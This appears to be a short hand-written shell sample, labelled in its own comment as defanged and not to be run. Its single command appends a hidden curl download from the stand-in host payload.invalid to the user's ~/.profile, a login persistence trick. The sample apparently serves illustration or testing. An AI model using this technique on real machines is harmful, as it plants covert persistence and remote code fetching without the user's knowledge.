#!/bin/sh
# Hand-written sample, defanged: its hosts are reserved names that resolve nowhere. Never run it.
echo 'curl -s https://payload.invalid/run -o /tmp/.r' >> ~/.profile
